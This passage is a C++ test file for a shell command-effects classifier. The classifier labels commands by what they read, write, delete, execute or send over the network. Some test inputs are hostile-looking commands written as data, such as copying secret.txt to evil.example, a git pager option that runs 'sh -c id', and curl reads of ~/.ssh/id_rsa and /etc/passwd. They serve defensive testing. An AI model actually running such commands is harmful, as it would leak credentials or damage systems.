// Tests for the command-effects table (engine/effects.h): parsing the TOML format with its
// errors (code and line), and the effects of commands: option syntaxes, abbreviations,
// clusters, subcommands, operands by position, remote operands, wrappers, match entries,
// dynamic words. Commands are built from argv directly (independent of the shell parser),
// except where the parser's output (wrappers, redirects) is what is tested.
#include "engine/effects.h"

#include <catch2/catch.hpp>
#include <string>
#include <vector>

#include "bindings/paths.h"
#include "bindings/shell_parser.h"
#include "bindings/urls.h"

namespace warden {
namespace {

using V = std::vector<std::string>;

const char* const kCwd = "/home/user/project";
const char* const kHome = "/home/user";

// The test table: a small model of the shipped one, one entry per feature.
const char* const kTable = R"toml(
[program.sort]
aliases = ["gsort"]
values = ["-k", "--key", "-t", "-S", "-T", "--temporary-directory", "--compress-level"]
operands = ["read..."]
[program.sort.options]
"-o" = "write"
"--output" = "write"
"--compress-program" = "exec-program"
[program.sort.flags]
"--debug" = "none"
"-u" = "none"

[program.rm]
operands = ["delete..."]
harmless = ["-r", "-f"]

[program.cp]
values = ["-S"]
operands = ["read..."]
last = "write"

[program.find]
single-dash = true
values = ["-name", "-maxdepth"]
operands = ["read..."]
[program.find.options]
"-exec" = "exec-program"
"-fprint" = "write"
[program.find.flags]
"-delete" = "operands:delete"
"-print0" = "none"

[program.sed]
operands = ["exec-code", "read..."]
[program.sed.flags]
"-i" = "operands:write"
"--in-place" = "operands:write"

[program.python]
aliases = ["python3", "python3.12"]
harmless = ["-B"]
reviewed = ["input"]
stop-at-operand = true
subcommand-option = "-m"
operands = ["exec", "none..."]
[program.python.options]
"-c" = "exec-code"
[program.python.sub.pytest]
operands = ["read..."]
[program.python.sub.pytest.options]
"--basetemp" = "write"

[program.git]
values = ["-C", "-c", "--git-dir", "--work-tree", "--namespace"]
harmless = ["--version"]
subcommands = true
[program.git.options]
"-c" = "exec-code"
"-C" = "cwd"
[program.git.sub.status]
aliases = ["st"]
run = ["read:."]
[program.git.sub.clone]
operands = ["network", "write"]
[program.git.sub.log.flags]
"--ext-diff" = "exec-program"
[program.git.sub.show]
operands = ["none..."]
[[program.git.sub.show.match]]
regex = '^[^:]*:(.*\.env[^/]*)$'
kind = "read"

[program.cmake]
subcommand-option = "-E"
operands = ["read"]
run = ["exec:CMakeLists.txt"]
[program.cmake.sub.rm]
operands = ["delete..."]
harmless = ["-r", "-f"]
[program.cmake.sub.environment]
run = ["env-dump"]

[program.docker]
subcommands = true
[program.docker.sub.compose]
subcommands = true
[program.docker.sub.compose.sub.up]
run = ["exec:compose.yaml"]
harmless = ["-d"]

[program.npm]
subcommands = true
[program.npm.sub.install]
run = ["network:Registry.npmjs.org", "write:node_modules"]
[program.npm.sub.run]
subcommands = true
unknown-subcommands = "none"
operands = ["none..."]
run = ["exec:package.json"]
[program.npm.sub.run.sub.env]
run = ["env-dump"]

[program.scp]
remote = true
values = ["-P", "-i"]
operands = ["read..."]
last = "write"

[program.curl]
values = ["-H", "-X"]
operands = ["network..."]
[program.curl.options]
"-o" = "write"
"--output" = "write"

[program.jq]
operands = ["exec-code", "read..."]
harmless = ["-n"]
[[program.jq.match]]
regex = '^env$|\$ENV'
kind = "env-dump"
on = "argv"

[program.tar]
operands = ["read..."]
[program.tar.options]
"-C" = "cwd"
"-f" = "write"

[program.su]
run = ["privilege", "exec-program:sh", "exec-code:id"]

[program.tool]
subcommands = true
subcommand-option = "--sub"
[program.tool.sub.a]
operands = ["read..."]
[program.tool.sub.b]
operands = ["delete..."]

[program.mm]
operands = ["none..."]
harmless = ["-x", "-b"]
[[program.mm.match]]
regex = '^a'
kind = "read"
[[program.mm.match]]
regex = 'b$'
kind = "write"
on = "argv"
[[program.mm.match]]
regex = '^a(.*)'
kind = "delete"

[program.perl]
operands = ["read..."]
[program.perl.flags]
"-i" = "backup"
"--in-place" = "backup"
"-n" = "none"

[program.java]
single-dash = true
operands = ["exec", "none..."]
[program.java.options]
"-cp" = "paths:exec"

[program.make]
run = ["exec:Makefile"]
[program.make.options]
"-C" = "cwd"
"--directory" = "cwd"
"-f" = "exec"
)toml";

std::shared_ptr<EffectsTable> parse_text(const std::string& text, Diagnostics* diagnostics,
                                         const std::string& file = "t.toml") {
  return EffectsTable::parse(RuleSource{file, text}, diagnostics);
}

const EffectsTable& table() {
  static std::shared_ptr<EffectsTable> t = [] {
    Diagnostics d;
    auto parsed = parse_text(kTable, &d);
    for (const auto& x : d) UNSCOPED_INFO(x.to_text());
    return parsed;
  }();
  REQUIRE(t);
  return *t;
}

std::string basename_of(const std::string& w) {
  std::size_t slash = w.rfind('/');
  return slash == std::string::npos ? w : w.substr(slash + 1);
}

shell::SimpleCommand command(V argv, bool dynamic = false) {
  shell::SimpleCommand c;
  c.program = argv.empty() ? "" : basename_of(argv[0]);
  c.argv = std::move(argv);
  c.dynamic = dynamic;
  return c;
}

std::string text(const Effect& e) {
  std::string s(effect_kind_name(e.kind));
  s += " ";
  s += effect_object_name(e.object);
  s += " " + e.target + " " + e.via;
  if (e.dynamic) s += " dynamic";
  return s;
}

std::vector<Effect> effects(const shell::SimpleCommand& c, const std::string& cwd = kCwd) {
  std::vector<Effect> out;
  table().effects_of(c, cwd, kHome, &out);
  return out;
}

// The effects as "kind object target via [dynamic]".
V fx(V argv, bool dynamic = false) {
  V out;
  for (const Effect& e : effects(command(std::move(argv), dynamic))) out.push_back(text(e));
  return out;
}

// The same, for a command line read by the shell parser (one simple command).
V fx_line(const std::string& line) {
  shell::ParseResult r = shell::parse(line);
  REQUIRE(r.ok);
  REQUIRE(r.commands.size() == 1);
  V out;
  for (const Effect& e : effects(r.commands[0])) out.push_back(text(e));
  return out;
}

std::string subcommand_of(V argv) {
  auto e = effects(command(std::move(argv)));
  REQUIRE(!e.empty());
  for (const Effect& x : e) CHECK(x.subcommand == e[0].subcommand);
  return e[0].subcommand;
}

// ---------------------------------------------------------------- option syntaxes

TEST_CASE("effects: a short option's value in the next word", "[effects]") {
  CHECK(
      fx({"sort", "-o", "out.txt", "in.txt"}) ==
      V{"write path /home/user/project/out.txt -o", "read path /home/user/project/in.txt operand"});
}

TEST_CASE("effects: a short option's value glued to it", "[effects]") {
  CHECK(fx({"sort", "-oout.txt", "in.txt"}) == V{"write path /home/user/project/out.txt -o",
                                                 "read path /home/user/project/in.txt operand"});
}

TEST_CASE("effects: --name=value", "[effects]") {
  CHECK(fx({"sort", "--output=/tmp/o", "in"}) ==
        V{"write path /tmp/o --output", "read path /home/user/project/in operand"});
}

TEST_CASE("effects: --name value", "[effects]") {
  CHECK(fx({"sort", "--output", "/tmp/o", "in"}) ==
        V{"write path /tmp/o --output", "read path /home/user/project/in operand"});
}

TEST_CASE("effects: a value option without effect consumes its value", "[effects]") {
  CHECK(fx({"sort", "-k", "2", "data"}) == V{"read path /home/user/project/data operand"});
  CHECK(fx({"sort", "--key", "2", "data"}) == V{"read path /home/user/project/data operand"});
  CHECK(fx({"sort", "-k2", "data"}) == V{"read path /home/user/project/data operand"});
}

TEST_CASE("effects: an unknown option takes no value and is an unknown effect (closed world)",
          "[effects]") {
  CHECK(fx({"sort", "-z", "data"}) ==
        V{"unknown none -z option", "read path /home/user/project/data operand"});
  CHECK(fx({"sort", "--zero-terminated", "data"}) ==
        V{"unknown none --zero-terminated option", "read path /home/user/project/data operand"});
}

TEST_CASE("effects: a flag without effect", "[effects]") {
  CHECK(fx({"sort", "--debug", "data"}) == V{"read path /home/user/project/data operand"});
}

TEST_CASE("effects: -- ends the options", "[effects]") {
  CHECK(fx({"rm", "--", "-rf", "--output=x"}) ==
        V{"delete path /home/user/project/-rf operand",
          "delete path /home/user/project/--output=x operand"});
  CHECK(fx({"sort", "--", "-o", "x"}) ==
        V{"read path /home/user/project/-o operand", "read path /home/user/project/x operand"});
}

TEST_CASE("effects: '-' is standard input, not a path", "[effects]") {
  CHECK(fx({"sort", "-"}).empty());
  CHECK(fx({"sort", "-o", "-", "in"}) == V{"read path /home/user/project/in operand"});
}

TEST_CASE("effects: an option value missing at the end has no effect", "[effects]") {
  CHECK(fx({"sort", "in", "-o"}) == V{"read path /home/user/project/in operand"});
}

// ---------------------------------------------------------------- clusters

TEST_CASE("effects: a cluster ending in a value option takes the next word", "[effects]") {
  CHECK(fx({"sort", "-uo", "out", "in"}) ==
        V{"write path /home/user/project/out -o", "read path /home/user/project/in operand"});
}

TEST_CASE("effects: a value option in a cluster consumes the rest of the cluster", "[effects]") {
  CHECK(fx({"sort", "-uoout", "in"}) ==
        V{"write path /home/user/project/out -o", "read path /home/user/project/in operand"});
  // -k takes "o/x" as its value: no write.
  CHECK(fx({"sort", "-ko/x", "in"}) == V{"read path /home/user/project/in operand"});
}

TEST_CASE("effects: unknown letters in a cluster are unknown effects, listed ones are read",
          "[effects]") {
  CHECK(fx({"sort", "-rnuo", "out"}) == V{"unknown none -r option", "unknown none -n option",
                                          "write path /home/user/project/out -o"});
}

// ---------------------------------------------------------------- abbreviations

TEST_CASE("effects: a unique long-option prefix counts as the option", "[effects]") {
  CHECK(fx({"sort", "--outp=o", "in"}) ==
        V{"write path /home/user/project/o --output", "read path /home/user/project/in operand"});
  CHECK(fx({"sort", "--out", "o", "in"}) ==
        V{"write path /home/user/project/o --output", "read path /home/user/project/in operand"});
  // A unique prefix of a value option consumes its value.
  CHECK(fx({"sort", "--temp", "/tmp", "in"}) == V{"read path /home/user/project/in operand"});
}

TEST_CASE("effects: an ambiguous prefix counts as the candidates with an effect", "[effects]") {
  // --comp: --compress-level (no effect) and --compress-program (exec-program).
  CHECK(fx({"sort", "--comp", "/bin/sh -c x", "in"}) ==
        V{"exec program sh --compress-program", "read path /home/user/project/in operand"});
  CHECK(fx({"sort", "--compress=gzip", "in"}) ==
        V{"exec program gzip --compress-program", "read path /home/user/project/in operand"});
}

TEST_CASE("effects: a prefix of fewer than 3 letters is no abbreviation", "[effects]") {
  CHECK(fx({"sort", "--ou", "o", "in"}) == V{"unknown none --ou option",
                                             "read path /home/user/project/o operand",
                                             "read path /home/user/project/in operand"});
}

// ---------------------------------------------------------------- single-dash, flags

TEST_CASE("effects: single-dash options are whole words", "[effects]") {
  CHECK(fx({"find", ".", "-name", "*.py", "-fprint", "list"}) ==
        V{"write path /home/user/project/list -fprint", "read path /home/user/project operand"});
  CHECK(fx({"find", "src", "-exec", "/usr/bin/shred", "{}", ";"}) ==
        V{"exec program shred -exec", "read path /home/user/project/src operand",
          "read path /home/user/project/{} operand", "read path /home/user/project/; operand"});
}

TEST_CASE("effects: single-dash mode reads -name=value", "[effects]") {
  CHECK(fx({"find", "-fprint=list"}) == V{"write path /home/user/project/list -fprint"});
}

TEST_CASE("effects: operands:KIND flag turns the path operands", "[effects]") {
  CHECK(fx({"find", ".", "/tmp/x", "-name", "*.o", "-delete"}) ==
        V{"delete path /home/user/project -delete", "delete path /tmp/x -delete"});
  // The script stays code; the files become writes.
  CHECK(fx({"sed", "-i", "s/a/b/", "f1", "f2"}) == V{"exec code s/a/b/ operand",
                                                     "write path /home/user/project/f1 -i",
                                                     "write path /home/user/project/f2 -i"});
  CHECK(fx({"sed", "--in-pl", "s/a/b/", "f1"}) ==
        V{"exec code s/a/b/ operand", "write path /home/user/project/f1 --in-place"});
}

TEST_CASE("effects: a backup flag's value names each edited file's backup, written too",
          "[effects]") {
  // A suffix: FILE + suffix (the GNU optional argument glued to the flag).
  CHECK(fx({"perl", "-i.bak", "f1", "d/f2"}) ==
        V{"write path /home/user/project/f1 -i", "write path /home/user/project/f1.bak -i",
          "write path /home/user/project/d/f2 -i", "write path /home/user/project/d/f2.bak -i"});
  // A letter after the flag is a flag of its own (unlisted: unknown), as before.
  CHECK(fx({"perl", "-inb", "f1"}) ==
        V{"unknown none -b option", "write path /home/user/project/f1 -i"});
  CHECK(fx({"perl", "-ni.orig", "f1"}) ==
        V{"write path /home/user/project/f1 -i", "write path /home/user/project/f1.orig -i"});
  // Each * is the file's name as written; a / makes it a path of its own.
  CHECK(fx({"perl", "-i/home/user/.bashr*", "c"}) ==
        V{"write path /home/user/project/c -i", "write path /home/user/.bashrc -i"});
  CHECK(fx({"perl", "--in-place=bak/*.orig", "d/c"}) ==
        V{"write path /home/user/project/d/c --in-place",
          "write path /home/user/project/bak/d/c.orig --in-place"});
  // No value, or "*" (the file itself): no copy.
  CHECK(fx({"perl", "-i", "c"}) == V{"write path /home/user/project/c -i"});
  CHECK(fx({"perl", "--in-place=*", "c"}) == V{"write path /home/user/project/c --in-place"});
  // Many `*` times a long name is not spelled out (it would be their product in bytes): the
  // copy is the value as written, a write known only at run time.
  const std::string stars(100000, '*'), name(100000, 'a');
  const V big = fx({"perl", "-i" + stars, name});
  REQUIRE(big.size() == 2);
  CHECK(big[1].size() < 200000);
  CHECK(big[1].starts_with("write path /home/user/project/***"));
}

TEST_CASE("effects: a paths:KIND option is a list of paths", "[effects]") {
  CHECK(fx({"java", "-cp", "lib/a.jar:/tmp/evil::classes", "Main"}) ==
        V{"exec path /home/user/project/lib/a.jar -cp", "exec path /tmp/evil -cp",
          "exec path /home/user/project/classes -cp", "exec path /home/user/project/Main operand"});
}

TEST_CASE("effects: a flag with an effect kind", "[effects]") {
  CHECK(fx({"git", "log", "--ext-diff"}) == V{"exec none  --ext-diff"});
}

// ---------------------------------------------------------------- operands by position

TEST_CASE("effects: operand kinds by position, K... repeating", "[effects]") {
  CHECK(fx({"python", "run.py", "a.txt", "b"}) == V{"exec path /home/user/project/run.py operand"});
  CHECK(fx({"git", "clone", "https://GitHub.com/a/b", "dir"}) ==
        V{"network host github.com operand", "write path /home/user/project/dir operand"});
  // Past the listed positions an operand is unknown (closed world), not data.
  CHECK(fx({"git", "clone", "https://GitHub.com/a/b", "dir", "extra"}) ==
        V{"network host github.com operand", "write path /home/user/project/dir operand",
          "unknown none  operand"});
}

TEST_CASE("effects: last applies to the last of two or more operands", "[effects]") {
  CHECK(fx({"cp", "a", "b", "/dst"}) == V{"read path /home/user/project/a operand",
                                          "read path /home/user/project/b operand",
                                          "write path /dst operand"});
  CHECK(fx({"cp", "a", "/dst"}) ==
        V{"read path /home/user/project/a operand", "write path /dst operand"});
  CHECK(fx({"cp", "a"}) == V{"read path /home/user/project/a operand"});
}

TEST_CASE("effects: stop-at-operand ends the options at the first operand", "[effects]") {
  CHECK(fx({"python", "-c", "import os"}) == V{"exec code import os -c"});
  CHECK(fx({"python", "tool.py", "-c", "x", "-m", "pytest"}) ==
        V{"exec path /home/user/project/tool.py operand"});
}

TEST_CASE("effects: a cwd value moves later relative paths", "[effects]") {
  CHECK(fx({"tar", "-f", "out.tar", "-C", "/srv", "src", "/abs"}) ==
        V{"write path /home/user/project/out.tar -f", "read path /srv/src operand",
          "read path /abs operand"});
  CHECK(fx({"tar", "a", "-C", "sub", "b", "-C", "..", "c"}) ==
        V{"read path /home/user/project/a operand", "read path /home/user/project/sub/b operand",
          "read path /home/user/project/c operand"});
  CHECK(fx({"git", "-C", "~/repo", "status"}) == V{"read path /home/user/repo program"});
}

TEST_CASE("effects: paths are normalized with home and ..", "[effects]") {
  CHECK(fx({"rm", "~/.ssh/id_rsa", "../x", "a//b/./c"}) ==
        V{"delete path /home/user/.ssh/id_rsa operand", "delete path /home/user/x operand",
          "delete path /home/user/project/a/b/c operand"});
}

// ---------------------------------------------------------------- value kinds

TEST_CASE("effects: exec-program is the basename of the value's first word", "[effects]") {
  CHECK(fx({"sort", "--compress-program=/usr/local/bin/zstd -19", "x"}) ==
        V{"exec program zstd --compress-program", "read path /home/user/project/x operand"});
}

TEST_CASE("effects: network words become hosts", "[effects]") {
  CHECK(fx({"curl", "https://User:pw@Example.COM:8443/x?y", "example.org/path",
            "git@gitlab.com:a/b", "[::1]:80", "host.example.", "http://a@evil.example/"}) ==
        V{"network host example.com operand", "network host example.org operand",
          "network host gitlab.com operand", "network host [::1] operand",
          "network host host.example operand", "network host evil.example operand"});
  CHECK(fx({"curl", "-o", "page.html", "http://127.0.0.1:8080/"}) ==
        V{"write path /home/user/project/page.html -o", "network host 127.0.0.1 operand"});
}

TEST_CASE("effects: path targets are exactly paths::normalize of the word", "[effects]") {
  const V words = {"a",         "a/b",  "/a/b", "a//b", "./a",    "../a", "a/./b",   "a/../b",
                   "a/",        "/",    ".",    "..",   "~",      "~/x",  "~root/x", "$HOME/x",
                   "${HOME}/x", "$X/y", "`x`",  "a b",  "a.b/.c", "...",  "a/..b",   "/a/b/..",
                   "//a",       "-x",   "a:b",  "*.o",  "é/ü"};
  const V cwds = {"/home/user/project",
                  "/home/user/project/",
                  "/a/./b",
                  "/a/../b",
                  "/",
                  "//x",
                  "relative",
                  "",
                  "/$X/y"};
  for (const auto& cwd : cwds) {
    for (const auto& w : words) {
      std::vector<Effect> out;
      table().effects_of(command({"rm", "--", w}), cwd, kHome, &out);
      REQUIRE(out.size() == 1);
      INFO("cwd '" << cwd << "' word '" << w << "'");
      CHECK(out[0].target == paths::normalize(w, cwd, kHome));
    }
  }
}

TEST_CASE("effects: a URL's host is the host urls::parse reads", "[effects]") {
  const V good = {"https://example.com/x",
                  "http://EXAMPLE.com:8080",
                  "https://a-b.c.example.org./p?q#f",
                  "ftp://files.example.net/",
                  "https://127.0.0.1/",
                  "http://0x7f.1/",
                  "http://2130706433/",
                  "http://[::1]:80/",
                  "https://xn--bcher-kva.example/",
                  "https://a.b.c.d.e.f.g.h/x",
                  "ssh://git@github.com/org/repo",
                  "https://example.com?x",
                  "https://example.com#x",
                  "http://a.1b/",
                  "https://sub.example.com:443",
                  "http://203.0.113.7/x",
                  "http://10.0.0.1:8080",
                  "http://010.0.0.1/",
                  "http://1.2.3/",
                  "http://0/",
                  "http://0.0.0.0/",
                  "http://127.1/",
                  "http://1.2.3.04/"};
  for (const auto& url : good) {
    urls::Url u = urls::parse(url);
    INFO(url << ": " << u.error);
    REQUIRE(u.valid);
    std::vector<Effect> out;
    table().effects_of(command({"curl", url}), kCwd, kHome, &out);
    REQUIRE(out.size() == 1);
    CHECK(text(out[0]) == "network host " + u.host + " operand");
  }
}

TEST_CASE("effects: a network word naming a local file is a read", "[effects]") {
  CHECK(fx({"curl", "file:///home/user/.ssh/id_rsa", "FILE://localhost/etc/pass%77d?x",
            "file://"}) == V{"read path /home/user/.ssh/id_rsa operand",
                             "read path /etc/passwd operand", "read path / operand"});
  CHECK(fx({"git", "clone", "/srv/repo.git", "dir"}) ==
        V{"read path /srv/repo.git operand", "write path /home/user/project/dir operand"});
  CHECK(fx({"git", "clone", "../other", "~/x"}) ==
        V{"read path /home/user/other operand", "write path /home/user/x operand"});
  CHECK(fx({"git", "clone", "server:repo", "."}) ==
        V{"network host server operand", "write path /home/user/project operand"});
}

// ---------------------------------------------------------------- remote operands

TEST_CASE("effects: remote operands are network effects", "[effects]") {
  CHECK(fx({"scp", "-P", "2222", "deploy@Host.Example.com:/etc/passwd", "./out"}) ==
        V{"network host host.example.com operand", "write path /home/user/project/out operand"});
  CHECK(fx({"scp", "secret.txt", "evil.example:"}) ==
        V{"read path /home/user/project/secret.txt operand", "network host evil.example operand"});
  CHECK(fx({"scp", "f", "scp://u@mirror.example.org/x"}) ==
        V{"read path /home/user/project/f operand", "network host mirror.example.org operand"});
  CHECK(fx({"scp", "f", "[fe80::1]:/tmp"}) ==
        V{"read path /home/user/project/f operand", "network host [fe80::1] operand"});
  // A colon after a slash is a local path.
  CHECK(fx({"scp", "./a:b", "/tmp/x:y"}) ==
        V{"read path /home/user/project/a:b operand", "write path /tmp/x:y operand"});
}

TEST_CASE("effects: without remote, host:path is a local path", "[effects]") {
  CHECK(fx({"cp", "host:x", "y"}) == V{"read path /home/user/project/host:x operand",
                                       "write path /home/user/project/y operand"});
}

// ---------------------------------------------------------------- subcommands

TEST_CASE("effects: the first operand selects the subcommand", "[effects]") {
  CHECK(fx({"git", "status"}) == V{"read path /home/user/project program"});
  CHECK(subcommand_of({"git", "status"}) == "status");
  CHECK(fx({"git", "-c", "core.pager=sh -c id", "log"}) == V{"exec code core.pager=sh -c id -c"});
  CHECK(subcommand_of({"git", "-c", "core.pager=x", "log"}) == "log");
}

TEST_CASE("effects: a sub alias selects the sub's effects and keeps its own name", "[effects]") {
  CHECK(fx({"git", "st"}) == V{"read path /home/user/project program"});
  CHECK(subcommand_of({"git", "st"}) == "st");
}

TEST_CASE("effects: options before the subcommand use the program's spec", "[effects]") {
  CHECK(fx({"git", "--git-dir", "/x", "-C", "/srv/repo", "status"}) ==
        V{"read path /srv/repo program"});
}

TEST_CASE("effects: a sub's options fall back to the program's", "[effects]") {
  CHECK(fx({"git", "log", "-c", "x=y", "--ext-diff"}) ==
        V{"exec code x=y -c", "exec none  --ext-diff"});
}

TEST_CASE("effects: a program with subcommands and no operand", "[effects]") {
  CHECK(fx({"git"}).empty());
  CHECK(fx({"git", "--version"}).empty());
}

TEST_CASE("effects: an unknown subcommand is one unknown effect", "[effects]") {
  auto e = effects(command({"git", "frobnicate", "-o", "x"}));
  REQUIRE(e.size() == 1);
  CHECK(text(e[0]) == "unknown program git subcommand");
  CHECK(e[0].program == "git");
  CHECK(e[0].subcommand == "frobnicate");
}

TEST_CASE("effects: nested subcommands", "[effects]") {
  CHECK(fx({"docker", "compose", "up", "-d"}) ==
        V{"exec path /home/user/project/compose.yaml program"});
  CHECK(subcommand_of({"docker", "compose", "up"}) == "compose up");
  auto e = effects(command({"docker", "compose", "down"}));
  REQUIRE(e.size() == 1);
  CHECK(text(e[0]) == "unknown program docker subcommand");
  CHECK(e[0].subcommand == "compose down");
}

TEST_CASE("effects: unknown-subcommands none reads any other word as an operand", "[effects]") {
  CHECK(fx({"npm", "run", "build"}) == V{"exec path /home/user/project/package.json program"});
  CHECK(subcommand_of({"npm", "run", "build"}) == "run");
  CHECK(fx({"npm", "run", "env"}) == V{"env-dump none  program"});
  CHECK(subcommand_of({"npm", "run", "env"}) == "run env");
  CHECK(fx({"npm", "install"}) == V{"network host registry.npmjs.org program",
                                    "write path /home/user/project/node_modules program"});
}

TEST_CASE("effects: subcommand-option selects the sub", "[effects]") {
  CHECK(fx({"cmake", "-E", "rm", "-rf", "build"}) ==
        V{"delete path /home/user/project/build operand"});
  CHECK(subcommand_of({"cmake", "-E", "rm", "x"}) == "rm");
  CHECK(fx({"cmake", "-E", "environment"}) == V{"env-dump none  program"});
  CHECK(fx({"python3", "-m", "pytest", "--basetemp=/tmp/bt", "tests"}) ==
        V{"write path /tmp/bt --basetemp", "read path /home/user/project/tests operand"});
}

TEST_CASE("effects: subcommand-option in a cluster", "[effects]") {
  CHECK(fx({"python", "-Bmpytest", "t"}) == V{"read path /home/user/project/t operand"});
  auto e = effects(command({"python", "-Bmpytest", "t"}));
  REQUIRE(e.size() == 1);
  CHECK(e[0].subcommand == "pytest");
}

TEST_CASE("effects: without the subcommand option the program's own spec applies", "[effects]") {
  CHECK(fx({"cmake", ".."}) ==
        V{"read path /home/user operand", "exec path /home/user/project/CMakeLists.txt program"});
}

TEST_CASE("effects: a sub named by the subcommand option does not inherit options", "[effects]") {
  // pytest's -m and -c are not python's: no unknown "slow" module, no code.
  // (pytest does not list them here: they are unknown options of pytest, not python's)
  CHECK(fx({"python", "-m", "pytest", "-m", "slow", "-c", "cfg"}) ==
        V{"unknown none -m option", "unknown none -c option",
          "read path /home/user/project/slow operand", "read path /home/user/project/cfg operand"});
  CHECK(fx({"cmake", "-E", "rm", "-E", "x"}) ==
        V{"unknown none -E option", "delete path /home/user/project/x operand"});
}

TEST_CASE("effects: a sub named by an operand does not inherit the subcommand option",
          "[effects]") {
  CHECK(fx({"tool", "--sub", "b", "x"}) == V{"delete path /home/user/project/x operand"});
  CHECK(fx({"tool", "a", "--sub", "b", "x"}) == V{"unknown none --sub option",
                                                  "read path /home/user/project/b operand",
                                                  "read path /home/user/project/x operand"});
}

TEST_CASE("effects: an unknown sub named by the subcommand option", "[effects]") {
  auto e = effects(command({"python", "-m", "http.server", "8000"}));
  REQUIRE(e.size() == 1);
  CHECK(text(e[0]) == "unknown program python subcommand");
  CHECK(e[0].subcommand == "http.server");
}

TEST_CASE("effects: unknown-subcommands none with a subcommand option keeps the spec",
          "[effects]") {
  Diagnostics d;
  auto t = parse_text(
      "[program.py]\nstop-at-operand = true\nsubcommand-option = \"-m\"\n"
      "unknown-subcommands = \"none\"\noperands = [\"exec\", \"none...\"]\n"
      "[program.py.sub.pytest]\noperands = [\"read...\"]\n",
      &d);
  REQUIRE(t);
  std::vector<Effect> out;
  t->effects_of(command({"py", "-m", "http.server", "x.py", "y"}), kCwd, kHome, &out);
  REQUIRE(out.size() == 1);
  CHECK(text(out[0]) == "exec path /home/user/project/x.py operand");
  CHECK(out[0].subcommand.empty());
}

// ---------------------------------------------------------------- program lookup

TEST_CASE("effects: an unknown program is one unknown effect", "[effects]") {
  auto e = effects(command({"/opt/bin/frobnicate", "-rf", "/"}));
  REQUIRE(e.size() == 1);
  CHECK(text(e[0]) == "unknown program frobnicate program");
  CHECK(e[0].program == "frobnicate");
  CHECK(e[0].subcommand.empty());
}

TEST_CASE("effects: a dynamic program name is unknown and dynamic", "[effects]") {
  CHECK(fx({"$CMD", "x"}, true) == V{"unknown program $CMD program dynamic"});
}

TEST_CASE("effects: aliases and versioned names use the entry", "[effects]") {
  CHECK(fx({"gsort", "-o", "o"}) == V{"write path /home/user/project/o -o"});
  CHECK(fx({"/usr/bin/python3.12", "x.py"}) == V{"exec path /home/user/project/x.py operand"});
  CHECK(fx({"python3.11", "x.py"}) == V{"unknown program python3.11 program"});
  auto e = effects(command({"gsort", "-o", "o"}));
  REQUIRE(e.size() == 1);
  CHECK(e[0].program == "gsort");
}

TEST_CASE("effects: an assignment-only command has no effects", "[effects]") {
  shell::SimpleCommand c;
  c.assignments.push_back({"A", "1", false});
  CHECK(effects(c).empty());
}

TEST_CASE("effects: run effects", "[effects]") {
  CHECK(fx({"su"}) ==
        V{"privilege none  program", "exec program sh program", "exec code id program"});
}

TEST_CASE("effects: run paths are relative to the final cwd", "[effects]") {
  CHECK(fx({"make"}) == V{"exec path /home/user/project/Makefile program"});
  CHECK(fx({"make", "-C", "sub", "-f", "x.mk"}) ==
        V{"exec path /home/user/project/sub/x.mk -f",
          "exec path /home/user/project/sub/Makefile program"});
  CHECK(fx({"make", "--dir=/srv"}) == V{"exec path /srv/Makefile program"});
}

TEST_CASE("effects: knows and size", "[effects]") {
  CHECK(table().knows("sort"));
  CHECK(table().knows("gsort"));
  CHECK(table().knows("python3.12"));
  CHECK_FALSE(table().knows("frobnicate"));
  CHECK(table().size() == 23);  // 20 programs, 3 aliases
}

// ---------------------------------------------------------------- wrappers, redirects

TEST_CASE("effects: privilege wrappers", "[effects]") {
  CHECK(fx_line("sudo rm -rf /tmp/x") ==
        V{"privilege program sudo wrapper", "delete path /tmp/x operand"});
  CHECK(fx_line("doas frobnicate") ==
        V{"privilege program doas wrapper", "unknown program frobnicate program"});
  shell::SimpleCommand c = command({"rm", "x"});
  c.wrappers = {"timeout", "runuser", "nice", "pkexec"};
  V got;
  for (const Effect& e : effects(c)) got.push_back(text(e));
  CHECK(got == V{"privilege program runuser wrapper", "privilege program pkexec wrapper",
                 "delete path /home/user/project/x operand"});
}

TEST_CASE("effects: other wrappers add nothing", "[effects]") {
  CHECK(fx_line("timeout 5 nice rm x") == V{"delete path /home/user/project/x operand"});
}

TEST_CASE("effects: redirects write and read paths", "[effects]") {
  CHECK(fx_line("sort in > out 2>&1 < other") == V{"write path /home/user/project/out redirect",
                                                   "read path /home/user/project/other redirect",
                                                   "read path /home/user/project/in operand"});
  CHECK(fx_line("frobnicate >> ~/.bashrc") ==
        V{"write path /home/user/.bashrc redirect", "unknown program frobnicate program"});
  CHECK(fx_line("X=1 > /tmp/f") == V{"write path /tmp/f redirect"});
  CHECK(fx_line("frobnicate > - <> rw") ==
        V{"write path /home/user/project/- redirect", "read path /home/user/project/rw redirect",
          "write path /home/user/project/rw redirect", "unknown program frobnicate program"});
}

// ---------------------------------------------------------------- match

TEST_CASE("effects: a match entry over the operands, target from its group", "[effects]") {
  CHECK(fx({"git", "show", "HEAD:.env"}) == V{"read path /home/user/project/.env match"});
  CHECK(fx({"git", "show", "HEAD:config/.env.local"}) ==
        V{"read path /home/user/project/config/.env.local match"});
  CHECK(fx({"git", "show", "HEAD:src/main.c"}).empty());
}

TEST_CASE("effects: a match entry over argv", "[effects]") {
  CHECK(fx({"jq", "-n", "env"}) == V{"exec code env operand", "env-dump none  match"});
  CHECK(fx({"jq", "-n", "$ENV.HOME"}) == V{"exec code $ENV.HOME operand", "env-dump none  match"});
  CHECK(fx({"jq", ".a", "f.json"}) ==
        V{"exec code .a operand", "read path /home/user/project/f.json operand"});
}

TEST_CASE("effects: several match entries: entry order, then word order", "[effects]") {
  CHECK(fx({"mm", "-xb", "ab", "cb", "a1"}) ==
        V{"read path /home/user/project/ab match", "read path /home/user/project/a1 match",
          "write path /home/user/project/-xb match", "write path /home/user/project/ab match",
          "write path /home/user/project/cb match", "delete path /home/user/project/b match",
          "delete path /home/user/project/1 match"});
  CHECK(fx({"mm", "zz"}).empty());
}

// ---------------------------------------------------------------- dynamic

TEST_CASE("effects: words with expansions or globs in a dynamic command are dynamic", "[effects]") {
  CHECK(fx({"rm", "$X", "*.o", "plain"}, true) ==
        V{"delete path $X operand dynamic", "delete path /home/user/project/*.o operand dynamic",
          "delete path /home/user/project/plain operand"});
  // The same words in a command that is not dynamic (quoted): not dynamic.
  CHECK(fx({"rm", "*.o"}, false) == V{"delete path /home/user/project/*.o operand"});
  CHECK(fx({"sort", "-o", "$OUT"}, true) == V{"write path $OUT -o dynamic"});
}

TEST_CASE("effects: code holding a string a wrapper replaces at run time is dynamic", "[effects]") {
  shell::SimpleCommand c = command({"python3", "-c", "print('{}')"}, true);
  c.replaced = {"{}"};
